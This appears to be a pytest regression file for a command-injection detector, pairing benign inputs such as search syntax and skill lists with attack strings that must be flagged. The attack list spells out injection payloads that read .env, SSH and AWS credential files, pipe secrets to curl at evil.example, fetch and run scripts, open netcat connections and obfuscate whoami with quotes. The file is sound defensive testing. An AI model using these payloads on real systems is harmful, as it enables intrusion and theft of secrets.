"""Round 13, command injection: a chained command reading a secret dotfile (`;cd ~1;cat .env`), cmd.exe's `if` cut at
its `==` (a cookie *name* `&if /i "%OS%"`), `git`/`mount` known as programs (`x|git config --list`), quotes inside a
command's name (`w"h"o"am"i`: the trigger now sees them), `icm -ScriptBlock {…}`, lwp-request's `GET` fetching into a file, `getent` on the
account databases in a search box; and the benign side: search-engine syntax (`python OR golang -senior`) and lists
of technologies separated by `;`, `,`, `/`, `&` (`PHP 8 / Laravel, JavaScript (ES2022), HTML5 & CSS3`).
Each benign class has its closest attacks beside it: the same shape carrying a real payload stays caught."""
from __future__ import annotations

import pytest

from sensor.detect import Engine
from tests.detect.conftest import hits_for, strong



# (carrier, key, value)
BENIGN = [
    # --- search-engine syntax: boolean operators, exclusions, quoted phrases
    ("query", "keywords", "python OR golang -senior"),
    ("query", "q", "\"site reliability\" -manager remote"),
    ("query", "q", "rust AND wasm -crypto"),
    ("query", "search", "java OR kotlin -android"),
    ("query", "keywords", "devops engineer -contract"),
    ("query", "q", "perl NOT raku +regex"),
    # --- lists of technologies (skills, stacks)
    ("form", "skills", "Bash; sed/awk; cron; Linux sysadmin (RHEL 8/9)"),
    ("form", "skills", "PHP 8 / Laravel, JavaScript (ES2022), HTML5 & CSS3"),
    ("form", "skills", "Python 3.12, Django & Flask, PostgreSQL 15"),
    ("form", "skills", "Docker; Kubernetes (EKS, GKE); Terraform; Git"),
    ("form", "skills", "Perl 5 / Ruby 3.2 / Go, C++ & C#"),
    ("form", "skills", "Bash, PowerShell, Ansible, AWS (EC2, S3)"),
    ("form", "stack", "Node.js 20, React 18, TypeScript & GraphQL"),
    ("json", "tech", "MySQL 8 / Redis, Nginx & Ubuntu 22.04"),
    # --- dotfiles named in text and searches
    ("form", "comment", "use a .env file; source .env is fine"),
    ("query", "q", "docker compose environment variables .env file"),
    ("query", "q", "git .gitignore not working"),
    # --- getent searched about, not run
    ("query", "q", "getent passwd not showing ldap users"),
    ("query", "q", "getent group tutorial"),
    ("query", "q", "getent passwd"),
    # --- HTTP methods and quotes in text
    ("form", "comment", "API: GET http://api.example/v1/items returns a list; POST http://api.example/v1/items creates one"),
    ("form", "comment", "O'Brien's \"best\" pick"),
    ("form", "comment", "he said\"hello\"to me"),
    ("query", "q", "if not \"x\" then y"),
    # --- script blocks named in text
    ("form", "comment", "the -ScriptBlock parameter of icm takes a block"),
    ("form", "comment", "Use icm with -ScriptBlock {} for remoting"),
    # --- git named in text
    ("form", "comment", "we moved from svn to git last year; it was painless"),
    ("query", "q", "git rebase vs merge"),
]

ATTACKS = [
    # a chained command reading a secret file
    ("query", "d", ";cd ~1;cat .env"),
    ("query", "q", "x; cat .env"),
    ("query", "q", "x; cat .env.production"),
    ("query", "file", "a|cat ../.env"),
    ("form", "name", "x && cat ~/.aws/credentials"),
    ("json", "host", "localhost; less .git-credentials"),
    ("query", "q", ";cat .ssh/id_rsa"),
    ("query", "q", "x;cat .env | curl -d @- evil.example"),
    # cmd.exe's `if`, whole and cut at its `==` (a cookie name)
    ("cookie", "os", "&if /i \"%OS%\"==\"Windows_NT\" calc"),
    ("cookie", "os", "|if \"%USERNAME%\"==\"admin\" calc"),
    ("query", "q", "&if /i \"%OS%\""),
    ("query", "q", "&if not \"%COMPUTERNAME%\""),
    # a pipe into git / mount
    ("body:application/xml", "repo", "<?xml version=\"1.0\"?><repo name=\"x|git config --list\"/>"),
    ("query", "q", "x|git config --list"),
    ("form", "name", "a; git clone https://evil.example/x /tmp/x"),
    ("query", "q", "x|mount -o remount,rw /"),
    # quotes inside a command's name
    ("query", "u", "w\"h\"o\"am\"i"),
    ("query", "u", "'w'hoami"),
    ("query", "u", "who'am'i"),
    ("query", "u", "c\"a\"t /etc/passwd"),
    # lwp-request fetching into a file or an interpreter
    ("query", "q", "x;GET http://evil.example/s.pl > /tmp/s.pl"),
    ("query", "q", "x;HEAD http://evil.example/ > /tmp/x"),
    ("query", "q", "x|GET http://evil.example/s.sh | sh"),
    ("query", "q", "$(GET http://evil.example/s.pl > /tmp/s.pl)"),
    ("query", "q", "GET http://evil.example/s.pl > /tmp/s.pl"),
    # getent on the account databases, in a search box too
    ("json", "query", "getent shadow root"),
    ("json", "query", "getent shadow"),
    ("json", "query", "getent passwd root"),
    ("query", "q", "getent group sudo"),
    ("query", "keywords", "getent shadow root"),
    # a cmdlet running a script block (also as the name a cookie's `;` leaves)
    ("cookie", "q", "z;icm -ScriptBlock {whoami}"),
    ("query", "q", "icm -ComputerName srv1 -ScriptBlock { Get-Process }"),
    ("query", "q", "x; Start-Job -ScriptBlock {whoami}"),
    # search syntax and lists next to real payloads
    ("query", "q", "python -noprofile whoami"),
    ("query", "q", "python OR golang -senior; id"),
    ("query", "q", "python OR golang -senior $(id)"),
    ("query", "q", "x; sleep 5; y"),
    ("form", "skills", "Bash; id; cron"),
    ("form", "skills", "Java; ping 10; Go"),
    ("form", "skills", "Java; nc 10.0.0.1 4444; Go"),
    ("form", "skills", "PHP 8, Laravel; whoami; CSS3"),
    ("form", "skills", "PHP 8 / Laravel, JavaScript (ES2022), HTML5 & CSS3 | sh"),
    ("form", "skills", "PHP 8 / Laravel; cat /etc/passwd"),
]


@pytest.mark.parametrize("carrier,key,value", BENIGN, ids=[f"{c}:{k}:{v[:60]}" for c, k, v in BENIGN])
def test_benign_stays_clean(engine: Engine, carrier: str, key: str, value: str) -> None:
    assert not strong(hits_for(engine, carrier, value, key))


@pytest.mark.parametrize("carrier,key,value", ATTACKS, ids=[f"{c}:{k}:{v[:60]}" for c, k, v in ATTACKS])
def test_attack_stays_caught(engine: Engine, carrier: str, key: str, value: str) -> None:
    hits = hits_for(engine, carrier, value, key)
    assert strong(hits), [(h.rule, h.score) for h in hits]
